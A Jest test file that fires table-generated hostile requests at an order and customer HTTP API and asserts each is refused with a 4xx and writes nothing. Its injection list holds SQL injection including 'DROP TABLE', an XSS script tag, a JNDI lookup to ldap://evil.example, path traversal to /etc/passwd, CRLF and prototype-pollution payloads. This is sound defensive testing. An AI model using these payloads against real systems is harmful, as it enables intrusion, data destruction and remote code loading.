/**
 * Hostile input through the HTTP API (docs/design.md#http-api), generated from tables: wrong types for every
 * field, missing and unknown fields, huge and deeply nested bodies, injection strings in every
 * string field, key-like and oversized ids, odd content types, invalid JSON, bodies where none is
 * expected. Every request here is one the service must refuse, so each must be answered 4xx with
 * `{"error": {"code", "message"}}` (API Gateway's own `{"message"}` is accepted only for unknown
 * routes), never 5xx; exact statuses are asserted only for 413 (body over 256 KiB) and 415 (a
 * content type that is not JSON). Afterwards the table is exactly as before: nothing written, so
 * nothing published (every event starts as a table write; see support/table.ts).
 *
 * Requests that could legitimately be accepted (an injection string is valid data for a customer's
 * name) are made to fail for a second, certain reason: a stale `expectedVersion`, an invalid email,
 * an item with quantity 0. Wrong types, content types and syntax errors, on the other hand, are
 * aimed at a real order and a real customer with an otherwise valid body, so a lax check would
 * show as a 2xx and a write.
 *
 * Decided: duplicate keys in a JSON object are read as JSON.parse reads them (the last one wins,
 * as everywhere else in the stack); a request whose last value is invalid must be refused.
 */
import { afterAll, beforeAll, describe, it } from '@jest/globals';

import { expect } from '../support/expect';

import { handedOverStackOutputs } from '../support/handoff';
import { apiClient, isLocalOutputs, type ApiResponse } from './support/api';
import { eventually } from './support/steps';
import { differenceOf, isEmptyDifference, tableReader, type TableSnapshot } from './support/table';

const outputs = handedOverStackOutputs();
const api = apiClient(outputs);
const table = tableReader(outputs);

type Expectation = '4xx' | 413 | 415 | 'unknown route';

interface HostileCase {
  name: string;
  method: string;
  /** As sent on the wire (already percent-encoded), relative to ApiUrl. */
  path: string | (() => string);
  body?: string | Uint8Array | (() => string);
  /** `null`: no content-type header at all. @default application/json when there is a body */
  contentType?: string | null;
  expect: Expectation;
}

// ---------------------------------------------------------------------------------------------
// Targets: a real order and a real customer (created before the "before" snapshot), and ids that
// name nothing.
const target = { orderId: '', customerId: `hostile-${Date.now().toString(36)}-${Math.random().toString(36).slice(2, 8)}` };
const CUSTOMER = { name: 'Ada', email: 'ada@example.com' };
const UNKNOWN_ORDER = 'hostile-unknown-order';
const realOrder = () => encodeURIComponent(target.orderId);
const realCustomer = () => encodeURIComponent(target.customerId);

const KiB = 1024;
const HUGE = 'x'.repeat(300 * KiB);
const VALID_ITEM = '{"sku":"A","quantity":1,"unitPriceCents":100}';

// ---------------------------------------------------------------------------------------------
// Values.
const INJECTIONS: Array<[string, string]> = [
  ['SQL', "' OR 1=1 --"],
  ['SQL stacked', "1'; DROP TABLE orders; --"],
  ['HTML', '<script>alert(1)</script>'],
  ['JNDI', '${jndi:ldap://evil.example/a}'],
  ['NoSQL operator text', '{"$gt": ""}'],
  ['DynamoDB expression', ':v OR attribute_exists(pk)'],
  ['NUL byte', 'a\u0000b'],
  ['control characters', '\u0001\u001b[31m\u007f'],
  ['CRLF header injection', 'a\r\nX-Injected: 1'],
  ['right-to-left override', 'abc\u202Egpj.exe'],
  ['zero-width characters', '\u200B\u200C\u200D\uFEFF'],
  ['lone surrogate', 'a\uD800b'],
  ['emoji and combining marks', '😀e\u0301\u0300\u0302'],
  ['path traversal', '../../etc/passwd'],
  ['format string', '%s%s%n%x'],
  ['key-like', 'ORDER#x'],
];

/** Wrong JSON values (as JSON text) for a string field. */
const NOT_A_STRING = ['42', '1.5', 'true', 'false', 'null', '[]', '["x"]', '{}', '{"$gt": ""}', '{"$ne": null}'];
/** Wrong JSON values for an integer field; `min` 1 fields also get 0. */
const NOT_AN_INTEGER = ['"2"', '"one"', '1.5', '-1', 'true', 'null', '[]', '[1]', '{}', '{"$gt": 0}', '1e400', '-1e400', '9007199254740993'];

/** A string as one path segment, as sent on the wire (lone surrogates as their raw UTF-8-ish bytes). */
function segment(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return [...value].map((char) => (char.length === 1 && /[\uD800-\uDFFF]/.test(char) ? '%ED%A0%80' : encodeURIComponent(char))).join('');
  }
}
const json = (value: unknown) => JSON.stringify(value);

// ---------------------------------------------------------------------------------------------
// Routes: how to reach each body field, and a body that would be valid.
interface BodyRoute {
  name: string;
  method: string;
  path: () => string;
  /** A body the route would accept. */
  validBody: string;
}
const ORDER_ROUTE: BodyRoute = { name: 'POST /orders', method: 'POST', path: () => 'orders', validBody: `{"customerId":"c1","items":[${VALID_ITEM}]}` };
const CANCEL_ROUTE: BodyRoute = { name: 'POST /orders/{real}/cancel', method: 'POST', path: () => `orders/${realOrder()}/cancel`, validBody: '{"reason":"r","expectedVersion":1}' };
const PAYMENT_ROUTE: BodyRoute = { name: 'POST /orders/{real}/payments', method: 'POST', path: () => `orders/${realOrder()}/payments`, validBody: '{"amountCents":100}' };
const CUSTOMER_ROUTE: BodyRoute = { name: 'PUT /customers/{real}', method: 'PUT', path: () => `customers/${realCustomer()}`, validBody: '{"name":"Ada Byron","email":"ada@byron.example"}' };
const BODY_ROUTES = [ORDER_ROUTE, CANCEL_ROUTE, PAYMENT_ROUTE, CUSTOMER_ROUTE];

/** The routes with an id in the path; `body` makes the request valid but for the id. */
const ID_ROUTES: Array<{ name: string; method: string; path: (id: string) => string; body?: string }> = [
  { name: 'GET /orders/{id}', method: 'GET', path: (id) => `orders/${id}` },
  { name: 'GET /orders/{id}/timeline', method: 'GET', path: (id) => `orders/${id}/timeline` },
  { name: 'POST /orders/{id}/cancel', method: 'POST', path: (id) => `orders/${id}/cancel`, body: '{}' },
  { name: 'POST /orders/{id}/payments', method: 'POST', path: (id) => `orders/${id}/payments`, body: '{"amountCents":100}' },
  { name: 'GET /payments/{id}', method: 'GET', path: (id) => `payments/${id}` },
  { name: 'GET /payments/{id}/timeline', method: 'GET', path: (id) => `payments/${id}/timeline` },
  { name: 'DELETE /customers/{id}', method: 'DELETE', path: (id) => `customers/${id}` },
  { name: 'GET /customers/{id}/timeline', method: 'GET', path: (id) => `customers/${id}/timeline` },
  // Last: were a hostile id accepted here, the routes above would find the customer it created.
  { name: 'PUT /customers/{id}', method: 'PUT', path: (id) => `customers/${id}`, body: json(CUSTOMER) },
];

/** Ids as sent on the wire: key-like, encoded separators, over-long, malformed encodings. */
const HOSTILE_IDS: Array<[string, string]> = [
  ['ORDER#x', segment('ORDER#x')],
  ['x#STATE', segment('x#STATE')],
  ['OUTBOX#0000000001', segment('OUTBOX#0000000001')],
  ['CUSTOMER#c1 (a key prefix)', segment('CUSTOMER#c1')],
  ['a raw %23 (a # on the wire)', 'x%23STATE'],
  ['a literal "%23"', segment('%23')],
  ['"../" encoded', segment('../')],
  ['"../../orders" encoded', segment('../../orders')],
  ['a backslash path', segment('..\\..\\x')],
  ['10,000 characters', 'a'.repeat(10_000)],
  ['129 characters', 'a'.repeat(129)],
  ['only a space', '%20'],
  ['a NUL byte', '%00'],
  ['a newline', 'a%0Ab'],
  ['an invalid UTF-8 byte', '%FF'],
  ['an overlong "/"', '%C0%AF'],
  ['a truncated escape', 'a%2'],
];

// ---------------------------------------------------------------------------------------------
// The cases.
const cases: HostileCase[] = [];
const add = (hostile: HostileCase) => cases.push(hostile);

// Wrong types, field by field, in an otherwise valid body aimed at something real.
const fieldTables: Array<{ route: BodyRoute; field: string; body: (value: string) => string; wrong: string[] }> = [
  { route: ORDER_ROUTE, field: 'customerId', body: (v) => `{"customerId":${v},"items":[${VALID_ITEM}]}`, wrong: [...NOT_A_STRING, '""', json('x'.repeat(129))] },
  { route: ORDER_ROUTE, field: 'items', body: (v) => `{"customerId":"c1","items":${v}}`, wrong: ['"A"', '42', 'true', 'null', '{}', VALID_ITEM, '[]', '[42]', '["A"]', '[null]', '[[]]', `[${Array(101).fill(VALID_ITEM).join(',')}]`] },
  { route: ORDER_ROUTE, field: 'items[0].sku', body: (v) => `{"customerId":"c1","items":[{"sku":${v},"quantity":1,"unitPriceCents":100}]}`, wrong: [...NOT_A_STRING, '""', json('x'.repeat(129))] },
  { route: ORDER_ROUTE, field: 'items[0].quantity', body: (v) => `{"customerId":"c1","items":[{"sku":"A","quantity":${v},"unitPriceCents":100}]}`, wrong: [...NOT_AN_INTEGER, '0', '-0'] },
  { route: ORDER_ROUTE, field: 'items[0].unitPriceCents', body: (v) => `{"customerId":"c1","items":[{"sku":"A","quantity":1,"unitPriceCents":${v}}]}`, wrong: [...NOT_AN_INTEGER] },
  { route: CANCEL_ROUTE, field: 'reason', body: (v) => `{"reason":${v}}`, wrong: NOT_A_STRING.filter((v) => v !== 'null').concat(json('x'.repeat(501))) },
  { route: CANCEL_ROUTE, field: 'expectedVersion', body: (v) => `{"expectedVersion":${v}}`, wrong: [...NOT_AN_INTEGER.filter((v) => v !== 'null'), '"1"', '0'] },
  { route: PAYMENT_ROUTE, field: 'amountCents', body: (v) => `{"amountCents":${v}}`, wrong: [...NOT_AN_INTEGER, '0', '"100"'] },
  { route: CUSTOMER_ROUTE, field: 'name', body: (v) => `{"name":${v},"email":"ada@byron.example"}`, wrong: [...NOT_A_STRING, '""', json('x'.repeat(201))] },
  {
    route: CUSTOMER_ROUTE,
    field: 'email',
    body: (v) => `{"name":"Ada Byron","email":${v}}`,
    wrong: [...NOT_A_STRING, '""', '"not-an-email"', '"a@b"', '"@example.com"', '"a b@example.com"', '"a@@example.com"', json(`${'x'.repeat(250)}@example.com`)],
  },
];
for (const { route, field, body, wrong } of fieldTables) {
  for (const value of wrong) {
    add({ name: `${route.name}: ${field} = ${value.length > 40 ? `${value.slice(0, 30)}… (${value.length} chars)` : value}`, method: route.method, path: route.path, body: body(value), expect: '4xx' });
  }
}

// Missing fields, and fields nobody asked for (rejected, so that a typo is not silently ignored).
for (const [route, body, what] of [
  [ORDER_ROUTE, '{}', 'an empty object'],
  [ORDER_ROUTE, `{"items":[${VALID_ITEM}]}`, 'no customerId'],
  [ORDER_ROUTE, '{"customerId":"c1"}', 'no items'],
  [ORDER_ROUTE, '{"customerId":"c1","items":[{"quantity":1,"unitPriceCents":1}]}', 'an item without sku'],
  [ORDER_ROUTE, '{"customerId":"c1","items":[{"sku":"A","unitPriceCents":1}]}', 'an item without quantity'],
  [ORDER_ROUTE, '{"customerId":"c1","items":[{"sku":"A","quantity":1}]}', 'an item without unitPriceCents'],
  [ORDER_ROUTE, '{"customerId":"c1","items":[{}]}', 'an empty item'],
  [PAYMENT_ROUTE, '{}', 'no amountCents'],
  [CUSTOMER_ROUTE, '{}', 'an empty object'],
  [CUSTOMER_ROUTE, '{"email":"ada@byron.example"}', 'no name'],
  [CUSTOMER_ROUTE, '{"name":"Ada Byron"}', 'no email'],
  [ORDER_ROUTE, `{"customerId":"c1","items":[${VALID_ITEM}],"status":"CANCELLED"}`, 'an unknown field'],
  [ORDER_ROUTE, `{"customerId":"c1","items":[${VALID_ITEM}],"totalCents":0}`, 'a server-owned field'],
  [ORDER_ROUTE, `{"customerId":"c1","items":[{"sku":"A","quantity":1,"unitPriceCents":100,"pk":"ORDER#x"}]}`, 'a key attribute in an item'],
  [ORDER_ROUTE, `{"customerId":"c1","items":[${VALID_ITEM}],"__proto__":{"admin":true}}`, 'a __proto__ field'],
  [ORDER_ROUTE, `{"customerId":"c1","items":[${VALID_ITEM}],"constructor":{"prototype":{"admin":true}}}`, 'a constructor field'],
  [ORDER_ROUTE, `{"customerId":"c1","items":[${VALID_ITEM}],"customerid":"c2"}`, 'a field differing only in case'],
  [CANCEL_ROUTE, '{"status":"PLACED"}', 'an unknown field'],
  [CANCEL_ROUTE, '{"version":1}', 'a near-miss of expectedVersion'],
  [PAYMENT_ROUTE, '{"amountCents":100,"orderId":"someone-else"}', 'an unknown field'],
  [PAYMENT_ROUTE, '{"amount":100}', 'a near-miss of amountCents'],
  [CUSTOMER_ROUTE, '{"name":"Ada Byron","email":"ada@byron.example","version":99}', 'a server-owned field'],
  [CUSTOMER_ROUTE, '{"name":"Ada Byron","email":"ada@byron.example","pk":"CUSTOMER#x","sk":"STATE"}', 'key attributes'],
] as const) {
  add({ name: `${route.name}: ${what}`, method: route.method, path: route.path, body, expect: '4xx' });
}

// Bodies that are not objects.
for (const route of BODY_ROUTES) {
  for (const body of ['[]', `[${route.validBody}]`, '"x"', '42', 'null', 'true']) {
    add({ name: `${route.name}: the body ${body}`, method: route.method, path: route.path, body, expect: '4xx' });
  }
}

// Injection strings in every string field, each request failing for a second, certain reason.
for (const [what, text] of INJECTIONS) {
  const value = json(text);
  add({ name: `POST /orders: ${what} in customerId (and a quantity of 0)`, method: 'POST', path: () => 'orders', body: `{"customerId":${value},"items":[{"sku":"A","quantity":0,"unitPriceCents":1}]}`, expect: '4xx' });
  add({ name: `POST /orders: ${what} in a sku (and a quantity of 0)`, method: 'POST', path: () => 'orders', body: `{"customerId":"c1","items":[{"sku":${value},"quantity":0,"unitPriceCents":1}]}`, expect: '4xx' });
  add({ name: `POST /orders: ${what} as a field name`, method: 'POST', path: () => 'orders', body: `{"customerId":"c1","items":[${VALID_ITEM}],${value}:1}`, expect: '4xx' });
  add({ name: `POST cancel (real order): ${what} in reason (and a stale expectedVersion)`, method: 'POST', path: CANCEL_ROUTE.path, body: `{"reason":${value},"expectedVersion":99}`, expect: '4xx' });
  add({ name: `PUT customer (real): ${what} in name (and an invalid email)`, method: 'PUT', path: CUSTOMER_ROUTE.path, body: `{"name":${value},"email":"not-an-email"}`, expect: '4xx' });
  add({ name: `PUT customer (real): ${what} as the email`, method: 'PUT', path: CUSTOMER_ROUTE.path, body: `{"name":"Ada Byron","email":${value}}`, expect: '4xx' });
}

// Injection strings and key-like values as ids, on every route with an id (ids are
// `[A-Za-z0-9._:-]`-like, at most 128 characters: each of these is refused, or names nothing).
for (const route of ID_ROUTES) {
  const ids: Array<[string, string]> = [...INJECTIONS.map(([what, text]): [string, string] => [what, segment(text)]), ...HOSTILE_IDS];
  for (const [what, id] of ids) {
    add({ name: `${route.name} with the id ${what}`, method: route.method, path: route.path(id), ...(route.body !== undefined ? { body: route.body } : {}), expect: '4xx' });
  }
}

// Huge bodies (over 256 KiB: nothing larger could become one event) and deeply nested ones.
for (const route of BODY_ROUTES) {
  add({ name: `${route.name}: 300 KiB of JSON`, method: route.method, path: route.path, body: `{"customerId":"${HUGE}"}`, expect: 413 });
  add({ name: `${route.name}: 256 KiB + 1 byte of JSON`, method: route.method, path: route.path, body: `{"x":"${'x'.repeat(256 * KiB - 8 + 1)}"}`, expect: 413 });
  add({ name: `${route.name}: 300 KiB of text/plain`, method: route.method, path: route.path, body: HUGE, contentType: 'text/plain', expect: 413 });
  add({ name: `${route.name}: 10,000 unclosed [`, method: route.method, path: route.path, body: '['.repeat(10_000), expect: '4xx' });
  add({ name: `${route.name}: 10,000 nested arrays`, method: route.method, path: route.path, body: `${'['.repeat(10_000)}${']'.repeat(10_000)}`, expect: '4xx' });
  add({ name: `${route.name}: 10,000 nested objects`, method: route.method, path: route.path, body: `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, expect: '4xx' });
}
add({ name: 'POST /orders: 100,000 unclosed [', method: 'POST', path: () => 'orders', body: '['.repeat(100_000), expect: '4xx' });
add({ name: 'POST /orders: 50,000 nested arrays as the items', method: 'POST', path: () => 'orders', body: `{"customerId":"c1","items":${'['.repeat(50_000)}${']'.repeat(50_000)}}`, expect: '4xx' });
add({ name: 'POST /orders: 10,000 nested objects as customerId', method: 'POST', path: () => 'orders', body: `{"customerId":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)},"items":[${VALID_ITEM}]}`, expect: '4xx' });
add({ name: 'PUT customer (real): 10,000 nested arrays as the name', method: 'PUT', path: CUSTOMER_ROUTE.path, body: `{"name":${'['.repeat(10_000)}${']'.repeat(10_000)},"email":"ada@byron.example"}`, expect: '4xx' });

// Content types other than JSON, with bodies that would be valid JSON.
for (const route of BODY_ROUTES) {
  for (const contentType of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'text/json', 'application/jsonp', 'application/json-patch+json']) {
    add({ name: `${route.name}: content-type ${contentType}`, method: route.method, path: route.path, body: route.validBody, contentType, expect: 415 });
  }
  add({ name: `${route.name}: no content-type`, method: route.method, path: route.path, body: route.validBody, contentType: null, expect: '4xx' });
  add({
    name: `${route.name}: application/json; charset=utf-16 (UTF-16 bytes)`,
    method: route.method,
    path: route.path,
    body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(route.validBody, 'utf16le')]),
    contentType: 'application/json; charset=utf-16',
    expect: '4xx',
  });
  add({ name: `${route.name}: form-encoded fields`, method: route.method, path: route.path, body: 'customerId=c1&items[0][sku]=A&amountCents=100&name=Ada&email=a%40b.c', contentType: 'application/x-www-form-urlencoded', expect: 415 });
}

// Invalid JSON, derived from each route's valid body (a lenient parser would accept most of them).
for (const route of BODY_ROUTES) {
  const valid = route.validBody;
  const firstValue = valid.indexOf(':') + 1;
  const variants: Array<[string, string]> = [
    ['truncated', valid.slice(0, -1)],
    ['cut in half', valid.slice(0, Math.floor(valid.length / 2))],
    ['a trailing comma', `${valid.slice(0, -1)},}`],
    ['single quotes', valid.replaceAll('"', "'")],
    ['unquoted keys', valid.replace(/"(\w+)":/g, '$1:')],
    ['a comment', `/* hello */${valid}`],
    ['a line comment', `${valid} // bye`],
    ['a UTF-8 byte order mark', `\uFEFF${valid}`],
    ['two documents', `${valid}${valid}`],
    ['trailing garbage', `${valid}x`],
    ['NaN as a value', `${valid.slice(0, firstValue)}NaN}`],
    ['Infinity as a value', `${valid.slice(0, firstValue)}Infinity}`],
    ['undefined as a value', `${valid.slice(0, firstValue)}undefined}`],
    ['a hex number', `${valid.slice(0, firstValue)}0x10}`],
    ['a raw control character in a string', valid.replace('"', '"\u0001')],
    ['an invalid escape', valid.replace('"', '"\\x41')],
    ['only a brace', '}'],
  ];
  for (const [what, body] of variants) add({ name: `${route.name}: invalid JSON, ${what}`, method: route.method, path: route.path, body, expect: '4xx' });
}

// Duplicate keys: the last one wins, so a request whose last value is invalid is refused.
add({ name: 'POST /orders: duplicate customerId, the last one a number', method: 'POST', path: () => 'orders', body: `{"customerId":"c1","items":[${VALID_ITEM}],"customerId":42}`, expect: '4xx' });
add({ name: 'POST /orders: duplicate items, the last one empty', method: 'POST', path: () => 'orders', body: `{"customerId":"c1","items":[${VALID_ITEM}],"items":[]}`, expect: '4xx' });
add({ name: 'POST cancel (real order): duplicate expectedVersion, the last one stale', method: 'POST', path: CANCEL_ROUTE.path, body: '{"expectedVersion":1,"expectedVersion":99}', expect: '4xx' });
add({ name: 'POST payments (real order): duplicate amountCents, the last one a string', method: 'POST', path: PAYMENT_ROUTE.path, body: '{"amountCents":100,"amountCents":"100"}', expect: '4xx' });
add({ name: 'PUT customer (real): duplicate email, the last one invalid', method: 'PUT', path: CUSTOMER_ROUTE.path, body: '{"name":"Ada Byron","email":"ada@byron.example","email":"nope"}', expect: '4xx' });

// Bodies where none is expected (on ids that name nothing: a GET may ignore its body).
for (const [method, path] of [
  ['GET', `orders/${UNKNOWN_ORDER}`],
  ['GET', `orders/${UNKNOWN_ORDER}/timeline`],
  ['GET', 'payments/hostile-unknown-payment'],
  ['GET', 'payments/hostile-unknown-payment/timeline'],
  ['GET', 'customers/hostile-unknown-customer/timeline'],
  ['DELETE', 'customers/hostile-unknown-customer'],
] as const) {
  add({ name: `${method} ${path} with a JSON body`, method, path, body: `{"customerId":"c1","items":[${VALID_ITEM}]}`, expect: '4xx' });
  add({ name: `${method} ${path} with a 300 KiB body`, method, path, body: HUGE, contentType: 'text/plain', expect: '4xx' });
}

// Methods and paths the API does not have: API Gateway's own 403 {"message"} is fine here.
for (const [method, label, path, body] of [
  ['GET', 'orders', 'orders', undefined],
  ['PUT', 'orders', 'orders', `{"customerId":"c1","items":[${VALID_ITEM}]}`],
  ['DELETE', 'orders/{real}', () => `orders/${realOrder()}`, undefined],
  ['PATCH', 'orders/{real}', () => `orders/${realOrder()}`, '{"status":"CANCELLED"}'],
  ['POST', 'orders/{real}', () => `orders/${realOrder()}`, '{"status":"CANCELLED"}'],
  ['PUT', 'orders/{real}/cancel', () => `orders/${realOrder()}/cancel`, '{}'],
  ['POST', 'customers/{real}', () => `customers/${realCustomer()}`, json(CUSTOMER)],
  ['PATCH', 'customers/{real}', () => `customers/${realCustomer()}`, '{"name":"Eve"}'],
  ['POST', 'payments', 'payments', '{"orderId":"x","amountCents":1}'],
  ['GET', 'admin', 'admin', undefined],
  ['GET', 'orders/{unknown}/events/1', `orders/${UNKNOWN_ORDER}/events/1`, undefined],
  ['GET', 'orders/../orders (raw)', 'orders/../orders', undefined],
  ['GET', 'orders/.. (raw)', 'orders/..', undefined],
  ['POST', 'orders//cancel', 'orders//cancel', '{}'],
  ['DELETE', 'customers/', 'customers/', undefined],
  ['OPTIONS', 'orders', 'orders', undefined],
] as const) {
  add({ name: `${method} /${label} (no such route)`, method, path, ...(body !== undefined ? { body } : {}), expect: 'unknown route' });
}

// ---------------------------------------------------------------------------------------------
interface ErrorShape {
  error?: { code?: unknown; message?: unknown };
  message?: unknown;
}

function describeResponse(response: ApiResponse<unknown>): string {
  const text = typeof response.body === 'string' ? response.body : JSON.stringify(response.body);
  return `${response.status} ${text?.slice(0, 300)}`;
}

function expectRefused(hostile: HostileCase, response: ApiResponse<ErrorShape>): void {
  const seen = describeResponse(response);
  expect(response.status, `answered ${seen}`).toBeGreaterThanOrEqual(400);
  expect(response.status, `answered ${seen}`).toBeLessThan(500);
  if (hostile.expect === 413 || hostile.expect === 415) expect(response.status, `answered ${seen}`).toBe(hostile.expect);
  const body = response.body;
  const isErrorShape =
    typeof body === 'object' && body !== null && typeof body.error === 'object' && body.error !== null &&
    typeof body.error.code === 'string' && body.error.code !== '' && typeof body.error.message === 'string';
  const isGatewayShape = typeof body === 'object' && body !== null && typeof body.message === 'string' && (response.status === 403 || response.status === 404);
  if (hostile.expect === 'unknown route') {
    expect(isErrorShape || isGatewayShape, `not an error body: ${seen}`).toBe(true);
  } else {
    expect(isErrorShape, `not {"error": {"code", "message"}}: ${seen}`).toBe(true);
  }
}

let before: TableSnapshot;

describe('hostile input: refused with 4xx and the error shape, never 5xx, nothing written', () => {
  beforeAll(async () => {
    const placed = await api.request<{ orderId: string }>('POST', '/orders', { customerId: target.customerId, items: [{ sku: 'A', quantity: 1, unitPriceCents: 100 }] });
    expect(placed.status, describeResponse(placed)).toBe(201);
    target.orderId = placed.body.orderId;
    const customer = await api.request('PUT', `/customers/${realCustomer()}`, CUSTOMER);
    expect(customer.status, describeResponse(customer)).toBe(200);

    // Settled: both events reached their timelines, and the table stopped changing (a test file
    // before this one may still have events on their way).
    await eventually(
      async () => {
        for (const path of [`/orders/${realOrder()}/timeline`, `/customers/${realCustomer()}/timeline`]) {
          const timeline = await api.request<{ events: unknown[] }>('GET', path);
          expect(timeline.status).toBe(200);
          expect(timeline.body.events).toHaveLength(1);
        }
      },
      { timeoutMs: 30_000 },
    );
    let previous = await table.snapshot();
    before = await eventually(
      async () => {
        const current = await table.snapshot();
        const stable = isEmptyDifference(differenceOf(previous, current));
        previous = current;
        return stable ? current : false;
      },
      { timeoutMs: 60_000, intervalMs: 1_500 },
    );
  }, 300_000);

  it(`has at least 200 cases (${cases.length})`, () => {
    expect(cases.length).toBeGreaterThanOrEqual(200);
  });

  it.each(cases.map((hostile) => [hostile.name, hostile] as const))('%s', async (_name, hostile) => {
    const path = typeof hostile.path === 'function' ? hostile.path() : hostile.path;
    const body = typeof hostile.body === 'function' ? hostile.body() : hostile.body;
    const contentType = hostile.contentType === undefined ? {} : { 'content-type': hostile.contentType ?? undefined };
    const response = await api.request<ErrorShape>(hostile.method, path, body, { headers: contentType });
    expectRefused(hostile, response);
  });

  it('left the table as it was: no item written, so no event published', async () => {
    const after = await table.snapshot();
    const difference = differenceOf(before, after);
    expect(difference, `the table changed (${isLocalOutputs(outputs) ? 'local runtime' : 'deployed stack'}): ${JSON.stringify(difference)}`).toEqual({ added: [], removed: [], changed: [] });
    const order = await api.request<{ status: string; version: number }>('GET', `/orders/${realOrder()}`);
    expect(order.body).toMatchObject({ status: 'PLACED', version: 1 });
    const customer = await api.request<{ name: string; version: number }>('GET', `/customers/${realCustomer()}/timeline`);
    expect(customer.status).toBe(200);
  });

  afterAll(async () => {
    // Leave no customer behind on a deployed stack (the order stays: orders cannot be deleted).
    if (target.customerId !== '' && !isLocalOutputs(outputs)) await api.request('DELETE', `/customers/${realCustomer()}`);
  });
});
